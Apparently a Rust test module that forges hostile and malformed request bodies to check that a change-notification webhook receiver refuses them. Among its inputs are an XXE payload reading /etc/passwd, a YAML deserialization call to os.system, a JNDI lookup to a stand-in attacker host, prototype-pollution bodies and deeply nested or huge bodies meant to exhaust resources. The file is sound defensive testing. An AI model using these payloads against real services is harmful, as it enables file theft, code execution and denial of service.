//! Bodies that are no notifications, or hardly: what a receiver must live through.

use base64::{Engine as _, engine::general_purpose::STANDARD};
use serde_json::{Value, json};

use super::case::{Body, Group, Proof, Repeated};
use super::forge::{Cases, Forge, changed};
use super::target::{STRANGE_TENANT, TENANT};
use super::token_presence::repeated;

const OBJECT: &str = "The body is one JSON object with the list value (resource changeNotificationCollection); what is not gets status 400.";
const JSON: &str = "The body is JSON (RFC 8259) in UTF-8 (section 8.1); what is not gets status 400.";
const ITEMS: &str = "Each item is read by itself; what is none is settled without an alert.";
const BOUNDED: &str = "A body of any size and depth is answered in time and within memory.";

pub(super) fn group(forge: &Forge<'_>) -> Group {
    let about = "The body is no JSON, no collection, or full of what is no item. Where it contains a genuine item, the form spoils it.";
    let mut cases = Cases::new(forge, "envelope", about);
    no_collection(&mut cases);
    no_json(&mut cases);
    other_encodings(&mut cases);
    no_items(&mut cases);
    twice(&mut cases);
    large(&mut cases);
    cases.done()
}

fn genuine(cases: &Cases<'_>, name: &str) -> Value {
    cases.forge.vouched(cases.item(name))
}

fn no_collection(cases: &mut Cases<'_>) {
    for (name, attack, body) in [
        ("null", "It is null.", "null"),
        ("true", "It is the value true.", "true"),
        ("number", "It is a number.", "911"),
        ("text", "It is a text.", "\"911\""),
        ("empty-list", "It is an empty list.", "[]"),
        ("empty-object", "It is an empty object.", "{}"),
        ("value-null", "The list is null.", "{\"value\":null}"),
        ("value-text", "In the list's place is a text.", "{\"value\":\"911\"}"),
        ("value-number", "In the list's place is a number.", "{\"value\":911}"),
    ] {
        cases.refused(name, OBJECT, attack, body);
    }
    let item = |name| genuine(cases, name)["value"][0].clone();
    let tokens = json!([cases.forge.token()]);
    let bodies = [
        (
            "value-object",
            "In the list's place is the item.",
            json!({"value": item("value-object"), "validationTokens": tokens}),
        ),
        (
            "value-in-upper-case",
            "The list's name begins in upper case.",
            json!({"Value": [item("value-in-upper-case")], "validationTokens": tokens}),
        ),
        ("items", "The list has another name.", json!({"items": [item("items")], "validationTokens": tokens})),
        ("item-alone", "It is the item alone.", item("item-alone")),
        ("list", "It is a list of the collection.", json!([genuine(cases, "list")])),
        ("wrapped", "The collection is a member of another object.", json!({"body": genuine(cases, "wrapped")})),
        ("inherited", "The collection is the object's prototype.", json!({"__proto__": genuine(cases, "inherited")})),
        ("json-in-json", "The collection is a JSON text.", json!(genuine(cases, "json-in-json").to_string())),
    ];
    for (name, attack, body) in bodies {
        cases.refused(name, OBJECT, attack, body);
    }
}

/// Takes a genuine body, and makes something of it that is none.
type Spoil = fn(&str) -> String;

fn no_json(cases: &mut Cases<'_>) {
    for (name, attack, body) in [
        ("empty", "It is empty.", ""),
        ("white-space", "It is white space.", " \r\n\t"),
        ("nul", "It is a NUL.", "\0"),
        ("word", "It is a word.", "hello"),
        ("html", "It is HTML.", "<html><script>alert(911)</script></html>"),
        (
            "xml-with-entities",
            "It is XML with an entity from a file.",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><value>&x;</value>",
        ),
        ("yaml", "It is YAML.", "value:\n  - !!python/object/apply:os.system [\"true\"]\n"),
        ("form", "It is a form.", "value=%5B%5D&validationTokens=x"),
        ("log-lookup", "It is a text that careless loggers look up.", "${jndi:ldap://forger.example/x}"),
    ] {
        cases.refused(name, JSON, attack, body);
    }
    let spoilers: [(&str, &str, Spoil); 15] = [
        ("truncated", "Its last character is missing.", |text| text[..text.len() - 1].to_owned()),
        ("half", "Half of it is missing.", |text| text[..text.len() / 2].to_owned()),
        ("trailing-text", "A text stands behind it.", |text| format!("{text} and more")),
        ("two-documents", "It stands there twice.", |text| text.repeat(2)),
        ("two-lines", "It stands in two lines, each a document.", |text| format!("{text}\n{text}")),
        ("two-byte-order-marks", "Two byte order marks stand before it.", |text| format!("\u{feff}\u{feff}{text}")),
        ("script-prefix", "A prefix against scripts stands before it.", |text| format!(")]}}',\n{text}")),
        ("callback", "It is the argument of a function.", |text| format!("callback({text})")),
        ("comment", "A comment stands in it.", |text| format!("/* 911 */ {text}")),
        ("single-quotes", "Its texts are in single quotes.", |text| text.replace('"', "'")),
        ("names-without-quotes", "A name is not quoted.", |text| text.replace("\"value\"", "value")),
        ("not-a-number", "A number is none.", |text| text.replacen('{', "{\"note\":NaN,", 1)),
        ("number-too-great", "A number is greater than any.", |text| text.replacen('{', "{\"note\":1e999,", 1)),
        ("control-character", "A text has a line break in it.", |text| text.replacen("updated", "up\ndated", 1)),
        ("half-a-character", "A text holds half of a surrogate pair.", |text| text.replacen("updated", "\\ud800", 1)),
    ];
    for (name, attack, spoil) in spoilers {
        let body = spoil(&genuine(cases, name).to_string());
        cases.refused(name, JSON, attack, body);
    }
}

fn other_encodings(cases: &mut Cases<'_>) {
    type Encode = fn(&str) -> Vec<u8>;
    let encodings: [(&str, &str, Encode); 6] = [
        ("utf-16-le", "It is in UTF-16, with a byte order mark.", |text| {
            [vec![0xff, 0xfe], text.encode_utf16().flat_map(u16::to_le_bytes).collect()].concat()
        }),
        ("utf-16-be", "It is in UTF-16 the other way round, without a mark.", |text| {
            text.encode_utf16().flat_map(u16::to_be_bytes).collect()
        }),
        ("utf-32", "It is in UTF-32.", |text| text.chars().flat_map(|c| u32::from(c).to_le_bytes()).collect()),
        ("latin-1", "A text in it is in Latin-1.", |text| {
            let (before, after) = text.split_once("updated").expect("the body has a change");
            [before.as_bytes(), b"ge\xe4ndert", after.as_bytes()].concat()
        }),
        ("overlong", "A quotation mark is written with two bytes, which UTF-8 forbids.", |text| {
            let (before, after) = text.split_once("updated").expect("the body has a change");
            [before.as_bytes(), b"\xc0\xa2", after.as_bytes()].concat()
        }),
        ("base64", "It is in base64.", |text| STANDARD.encode(text).into_bytes()),
    ];
    for (name, attack, encode) in encodings {
        let body = encode(&genuine(cases, name).to_string());
        cases.refused(name, JSON, attack, Body::Base64(STANDARD.encode(body)));
    }
    // gzip's form of `{"value":[]}`.
    let gzip = "H4sIAAAAAAAC/6tWKkvMKU1VsoqOrQUAQupARAwAAAA=";
    cases.refused("gzip", JSON, "It is in gzip, and no header says so.", Body::Base64(gzip.to_owned()));
}

fn no_items(cases: &mut Cases<'_>) {
    let token = cases.forge.token();
    let mut add = |name, attack, reason, items: Value| {
        let body = json!({"value": items.clone(), "validationTokens": [token]});
        cases.rejected(name, ITEMS, attack, reason, body);
        let proofs = if items.as_array().is_some_and(Vec::is_empty) { &[][..] } else { &[Proof::Token] };
        cases.latest_holds(proofs);
        cases.never_raised();
    };
    add("no-items", "The list is empty.", "", json!([]));
    for (name, attack, item) in [
        ("item-null", "The item is null.", json!(null)),
        ("item-number", "The item is a number.", json!(911)),
        ("item-text", "The item is a text.", json!("911")),
        ("item-list", "The item is a list.", json!([])),
    ] {
        add(name, attack, "Malformed", json!([item]));
    }
    add("item-empty", "The item has no members.", "ClientStateMissing", json!([{}]));
    let attack = "The item has a tenant and nothing else.";
    add("item-tenant-alone", attack, "ClientStateMissing", json!([{"tenantId": TENANT}]));
    let items = [
        ("item-in-a-list", "The item is in a list of its own.", "Malformed", json!([cases.item("item-in-a-list")])),
        (
            "item-wrapped",
            "The item is a member of another object.",
            "ClientStateMissing",
            json!({"notification": cases.item("item-wrapped")}),
        ),
        (
            "item-inherited",
            "The item is the object's prototype.",
            "ClientStateMissing",
            json!({"__proto__": cases.item("item-inherited")}),
        ),
        ("item-as-text", "The item is a JSON text.", "Malformed", json!(cases.item("item-as-text").to_string())),
    ];
    for (name, attack, reason, item) in items {
        let body = cases.forge.vouched(item);
        cases.rejected(name, ITEMS, attack, reason, body);
        cases.latest_holds(&[Proof::Token]);
        cases.never_raised();
    }
}

fn twice(cases: &mut Cases<'_>) {
    let attack = "The list stands there twice, the second time empty: for readers that check one and use the other.";
    let text = genuine(cases, "value-twice").to_string();
    let (text, _) = text.rsplit_once('}').expect("a body is an object");
    cases.rejected("value-twice", ITEMS, attack, "", format!("{text},\"value\":[]}}"));
}

fn large(cases: &mut Cases<'_>) {
    let mut add = |name, attack, reason: &str, body: Repeated| cases.rejected(name, BOUNDED, attack, reason, body);
    let token = |items: Value| json!({"value": items, "validationTokens": []});
    let body = repeated(&token(json!(["@@"])), "\"@@\"", "{}", 10_000);
    add("ten-thousand-empty-items", "It has ten thousand items without members.", "ClientStateMissing", body);
    let strange = format!("{{\"tenantId\":\"{STRANGE_TENANT}\",\"resource\":\"x\"}}");
    let body = repeated(&token(json!(["@@"])), "\"@@\"", &strange, 10_000);
    add("ten-thousand-strange-items", "It has ten thousand items of a strange tenant.", "ClientStateMissing", body);
    let guessed = format!("{{\"tenantId\":\"{TENANT}\",\"resource\":\"x\",\"clientState\":\"guessed\"}}");
    let body = repeated(&token(json!(["@@"])), "\"@@\"", &guessed, 10_000);
    add(
        "ten-thousand-guesses",
        "It has ten thousand items, each with a guessed client state.",
        "ClientStateWrong",
        body,
    );
    let forged = changed(&cases.item("four-hundred-calls-at-once"), &json!({"clientState": "guessed"}));
    let body = repeated(&token(json!(["@@"])), "\"@@\"", &forged.to_string(), 400);
    let attack = "It has four hundred complete items with a guessed client state.";
    cases.rejected("four-hundred-calls-at-once", BOUNDED, attack, "ClientStateWrong", body);
    for (name, attack, repeated, times) in [
        ("nested-lists", "It is a hundred thousand lists inside each other.", "[", 100_000),
        ("nested-objects", "It is fifty thousand objects inside each other.", "{\"a\":", 50_000),
        ("too-large", "It has more than two megabytes, of white space.", " ", 2_200_000),
    ] {
        let (before, after) = ("{\"value\":".to_owned(), String::new());
        cases.refused(name, BOUNDED, attack, Repeated { before, repeated: repeated.to_owned(), times, after });
        cases.own();
    }
    let body = repeated_text("{\"note\":", "9", 5000, ",\"value\":[]}");
    cases.refused("long-number", BOUNDED, "A number has five thousand digits.", body);
    cases.own();
}

fn repeated_text(before: &str, repeated: &str, times: usize, after: &str) -> Repeated {
    Repeated { before: before.to_owned(), repeated: repeated.to_owned(), times, after: after.to_owned() }
}
